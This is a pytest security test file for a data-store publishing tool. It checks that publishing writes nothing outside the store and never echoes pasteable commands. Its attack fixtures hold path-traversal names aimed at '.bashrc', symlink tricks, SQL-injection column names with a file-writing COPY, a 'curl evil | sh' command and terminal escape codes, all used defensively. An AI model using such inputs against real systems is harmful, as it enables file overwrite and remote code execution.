"""A store made to harm: whatever its names and links say, publishing it writes nowhere but in its own two folders."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from explorer.errors import ExplorerError
from explorer.store import current_generation, open_store
from precompute import artefacts
from precompute.artefacts import Artefacts
from precompute.commands import publish, status, verify
from precompute.manifest import MANIFEST, seal
from tests.bundled_store import contents, record_of, write_bundled_store, write_factors

SECRET = "precious"
FAC0 = "artefacts/factors/fac0"


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_bundled_store(tmp_path_factory.mktemp("whole") / "store")


@pytest.fixture
def home(whole: Path, tmp_path: Path) -> Path:
    """A home with a file to lose, a folder to fill, and the store two folders below."""
    (tmp_path / ".bashrc").write_text(SECRET)
    (tmp_path / "documents").mkdir()
    (tmp_path / "documents" / "store-000007.duckdb").write_text(SECRET)
    shutil.copytree(whole, tmp_path / "down" / "stores" / "store")
    return tmp_path


def edit(path: Path, change: Callable[[dict], object]) -> None:
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def link(store: Path, inside: str, target: Path) -> None:
    """A link in the store's place, to a copy of what was there so that everything else fits."""
    place = store / inside
    if place.is_dir():
        shutil.copytree(place, target, dirs_exist_ok=True)
        shutil.rmtree(place)
    elif place.exists():
        shutil.copy(place, target)
        place.unlink()
    place.symlink_to(target)


def older(store: Path, name: str) -> None:
    """A bundle as it was before there were manifests, which names a file by its hash; the reported attack."""
    bundle = store / FAC0
    (bundle / MANIFEST).unlink()
    (store / ".bashrc").write_text("evil")
    sha256 = hashlib.sha256(b"evil").hexdigest()
    (bundle / "hashes.json").write_text(json.dumps({name: sha256}))
    edit(store / "artefacts/runs/run0.json", lambda record: record.pop("is_sealed"))


def rename_bundle(store: Path, stage: str, key: str) -> None:
    edit(store / "artefacts/runs/run0.json", lambda record: record["bundles"].append([stage, key]))


def wrong_table(store: Path, name: str, column: str = "x") -> None:
    bundle = store / "artefacts" / "factors" / "evil0"
    bundle.mkdir()
    pd.DataFrame({column: [1]}).to_parquet(bundle / f"{name}.parquet")
    seal(bundle)
    rename_bundle(store, "factors", "evil0")


def instead(path: Path, make: Callable[[Path], object]) -> None:
    path.unlink()
    make(path)


def command_to_paste(store: Path) -> None:
    edit(store / "artefacts/runs/run0.json", lambda record: record.update(command="curl evil | sh"))
    (store / FAC0 / "preview-c0.flac").write_bytes(b"damaged")


ATTACKS: dict[str, Callable[[Path, Path], object]] = {
    "hashes.json up": lambda store, home: older(store, "../../../.bashrc"),
    "hashes.json further up": lambda store, home: older(store, "../" * 6 + ".bashrc"),
    "hashes.json absolute": lambda store, home: older(store, str(home / ".bashrc")),
    "manifest up": lambda store, home: edit(
        store / FAC0 / MANIFEST, lambda m: m["files"].update({"../../../.bashrc": {"n_bytes": 1, "sha256": "0"}})
    ),
    "manifest of lists": lambda store, home: (store / FAC0 / MANIFEST).write_text('{"format": 1, "files": [[[]]]}'),
    "bundle up": lambda store, home: rename_bundle(store, "..", ".."),
    "bundle absolute": lambda store, home: rename_bundle(store, "factors", str(home)),
    "bundle of a list": lambda store, home: rename_bundle(store, "factors", ["x"]),  # type: ignore[arg-type]
    "record linked": lambda store, home: link(store, "artefacts/runs/run0.json", home / "documents" / "run0.json"),
    "artefacts linked": lambda store, home: link(store, "artefacts", home / "documents"),
    "runs linked": lambda store, home: link(store, "artefacts/runs", home / "documents"),
    "stage linked": lambda store, home: link(store, "artefacts/factors", home / "documents"),
    "bundle linked": lambda store, home: link(store, FAC0, home / "documents"),
    "table linked": lambda store, home: link(store, f"{FAC0}/factor_values.parquet", home / "documents" / "t"),
    "preview linked": lambda store, home: link(store, f"{FAC0}/preview-c0.flac", home / "documents" / "p"),
    "files linked": lambda store, home: link(store, "files", home / "documents"),
    "published linked": lambda store, home: link(store, "files/preview-c0.flac", home / ".bashrc"),
    "pointer linked": lambda store, home: link(store, "CURRENT", home / "documents" / "c"),
    "lock linked": lambda store, home: (store / ".lock").symlink_to(home / ".bashrc"),
    "lock hard linked": lambda store, home: os.link(home / ".bashrc", store / ".lock"),
    "database linked": lambda store, home: link(store, "store-000001.duckdb", home / "documents" / "d"),
    "next database linked": lambda store, home: (store / "store-000002.duckdb").symlink_to(home / ".bashrc"),
    "checksum linked": lambda store, home: (store / "store-000002.sha256").symlink_to(home / ".bashrc"),
    "files hold a folder": lambda store, home: (store / "files" / "sae-x").mkdir(),
    "a preview is a folder": lambda store, home: instead(store / "files" / "preview-c0.flac", Path.mkdir),
    "a table with a statement for a name": lambda store, home: wrong_table(store, 'meta" SELECT 1; --'),
    "a column with a statement for a name": lambda store, home: wrong_table(
        store, "sae_curves", f"epoch\") SELECT 1; COPY (SELECT 1) TO '{home}/documents/out'; --"
    ),
    "a table of other rows": lambda store, home: wrong_table(store, "clips", "clip_id"),
    "values that do not fit": lambda store, home: wrong_table(store, "files", "duration_s"),
    "a fifo for a record": lambda store, home: os.mkfifo(store / "artefacts" / "runs" / "more.json"),
    "a fifo for a manifest": lambda store, home: instead(store / FAC0 / MANIFEST, os.mkfifo),
    "a fifo for facts": lambda store, home: instead(store / "artefacts/corpus/corp0/facts.json", os.mkfifo),
    "a command to paste": lambda store, home: command_to_paste(store),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_outside_is_written_nor_shown_as_a_command(home: Path, attack: str) -> None:
    store = home / "down" / "stores" / "store"
    ATTACKS[attack](store, home)
    before = outside(home, store)
    said = ""
    for command in (status, verify, publish, verify):
        try:
            said += " ".join(command(store))
        except ExplorerError as error:  # a sentence, and nothing else
            said += str(error)
    assert outside(home, store) == before
    assert "curl" not in said and "evil |" not in said
    stray = {path for path in contents(store) if path.split("/")[0] not in ("files", "artefacts")}
    assert all(path == "CURRENT" or path.startswith((".lock", "store-0", ".bashrc")) for path in stray), stray


def outside(home: Path, store: Path) -> dict[str, bytes]:
    """All that is not the store's, what its links lead to included."""
    inside = store.relative_to(home).as_posix()
    return {path: content for path, content in contents(home).items() if not path.startswith(inside)}


def seal_tables(store: Path, tables: dict[str, dict[str, list[object]]]) -> None:
    bundle = store / "artefacts" / "factors" / "odd0"
    bundle.mkdir()
    for name, columns in tables.items():
        pd.DataFrame(columns).to_parquet(bundle / f"{name}.parquet")
    seal(bundle)
    rename_bundle(store, "factors", "odd0")


_SAE: dict[str, list[object]] = {
    "sae_id": ["s"], "encoder_id": ["e"], "layer": [1], "protocol": ["held-out"], "is_reference": [True], "seed": [0],
    "run_id": ["r"], "k": [1], "n_features": [4], "sparsity": [0.5], "n_epochs": [1], "mse_heldout": [0.1],
    "dense_mass": [0.1], "n_dead": [0], "l0_mean": [1.0], "n_train_clips": [4], "n_live": [4],
}  # fmt: skip
_SCORE: dict[str, list[object]] = {
    "representation_id": ["s"], "protocol": ["held-out"], "factor_index": [0], "r2": [0.5], "r2_permuted": [0.1],
    "completeness": [1.0], "effective_codes": [1.0], "completeness_d": [4],
}  # fmt: skip
_WEIGHT: dict[str, list[object]] = {
    "representation_id": ["s"], "protocol": ["held-out"], "factor_index": [0], "dim": [0], "weight": [0.5]
}  # fmt: skip
_WHOLE: dict[str, dict[str, list[object]]] = {
    "saes": _SAE, "features": {"sae_id": ["s"], "feature": [0]}, "factor_scores": _SCORE, "lasso_weights": _WEIGHT,
    "representations": {"representation_id": ["s"], "kind": ["codes"]},
}  # fmt: skip
NONSENSE: dict[str, tuple[str, dict[str, list[object]] | None]] = {
    "two clips of one name": ("clips", {"clip_id": ["c", "c"], "clip_index": [8, 9]}),
    "lists for names": ("encoders", {"encoder_id": [[1, 2]]}),
    "rows without a name": ("encoders", {"display_name": ["x"]}),
    "a factor that is none": ("lasso_weights", {**_WEIGHT, "factor_index": [9999]}),
    "a factor before the first": ("factor_scores", {**_SCORE, "factor_index": [-1]}),
    "a feature before the first": ("lasso_weights", {**_WEIGHT, "dim": [-5]}),
    "weights that are words": ("lasso_weights", {**_WEIGHT, "weight": ["x"]}),
    "weights that are none": ("lasso_weights", {**_WEIGHT, "weight": [float("nan")]}),
    "scores that are words": ("factor_scores", {**_SCORE, "r2": ["x"]}),
    "an endless place": ("factor_values", {"clip_id": ["c0"], "factor_index": [float("inf")], "value": [1.0]}),
    "no features": ("features", None),
    "no representations": ("representations", None),
    "SAEs of few columns": ("saes", {"sae_id": ["s"], "encoder_id": ["e"], "layer": [1], "protocol": ["held-out"]}),
}  # fmt: skip


@pytest.mark.parametrize("nonsense", NONSENSE)
def test_sealed_nonsense_is_not_published_and_said(home: Path, nonsense: str) -> None:
    """Bundles whose manifests are right and whose values are not."""
    store = home / "down" / "stores" / "store"
    name, columns = NONSENSE[nonsense]
    tables = {table: rows for table, rows in _WHOLE.items() if table != name}
    seal_tables(store, tables if columns is None else {**tables, name: columns})
    with pytest.raises(ExplorerError, match="Nothing was published: the tables in the artefacts of"):
        publish(store)
    assert current_generation(store) == 1
    assert verify(store)


def test_a_feature_of_a_high_number_takes_no_memory_for_those_before(home: Path) -> None:
    store = home / "down" / "stores" / "store"
    seal_tables(store, {**_WHOLE, "lasso_weights": {**_WEIGHT, "dim": [2**31 - 1]}})
    assert publish(store) == [f"{store}: generation 2 is current."]


def test_a_table_of_rows_without_end_is_not_read(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = home / "down" / "stores" / "store"
    seal_tables(store, {"sae_curves": {"sae_id": ["s"] * 2000, "epoch": list(range(2000))}})
    monkeypatch.setattr(artefacts, "MOST_ROWS", 1999)
    with pytest.raises(ExplorerError, match=r"sae_curves\.parquet is damaged \('it has 2,000 rows, more than 1999'\)"):
        publish(store)


def test_half_a_character_and_the_last_number_there_is(home: Path) -> None:
    store = home / "down" / "stores" / "store"
    edit(
        store / "artefacts/runs/run0.json", lambda record: record.update(command="\ud800", config={"\ud800": "\ud800"})
    )
    (store / "store-000001.duckdb").rename(store / "store-999999999.duckdb")
    (store / "CURRENT").write_text("store-999999999.duckdb\n")
    publish(store)
    assert current_generation(store) == 1
    assert verify(store) and status(store)


def test_a_run_does_not_write_through_a_link_either(home: Path) -> None:
    store = home / "down" / "stores" / "store"
    shutil.rmtree(store / "artefacts" / "factors")
    (store / "artefacts" / "factors").symlink_to(home / "documents")
    before = outside(home, store)
    with pytest.raises(ExplorerError, match="a link, which is not followed"):
        write_factors(Artefacts(store), "fac0", [{"clip_id": "c0"}])
    assert Artefacts(store).sweep() == 0
    assert outside(home, store) == before


def test_tables_that_name_files_elsewhere_are_refused_where_they_are_used(home: Path) -> None:
    store = home / "down" / "stores" / "store"
    bundle = store / "artefacts" / "corpus" / "corp0"
    clips = pd.read_parquet(bundle / "clips.parquet").assign(preview="../../../.bashrc")
    shutil.rmtree(bundle)
    with Artefacts(store).writing("corpus", "corp0") as made:
        made.add_facts({"subject": ["of", "no", "kind"]})
        made.add_table("clips", clips)
    publish(store)
    opened = open_store(store)
    with pytest.raises(ExplorerError, match="no name of a store's file"):
        opened.file(opened.query("SELECT preview FROM clips")["preview"][0])
    opened.close()
    with pytest.raises(ExplorerError, match=r"1 preview file that clips names .of 1. not listed"):
        verify(store)


def test_a_record_of_terminal_signs_is_printed_plainly(home: Path) -> None:
    store = home / "down" / "stores" / "store"
    record = {**record_of("run0", []), "summary": "\x1b]0;evil\x07\x1b[2J", "preset": "\n\n"}
    edit(store / "artefacts/runs/run0.json", lambda old: old.update({**record, "bundles": old["bundles"]}))
    assert all(line.isprintable() for line in status(store))
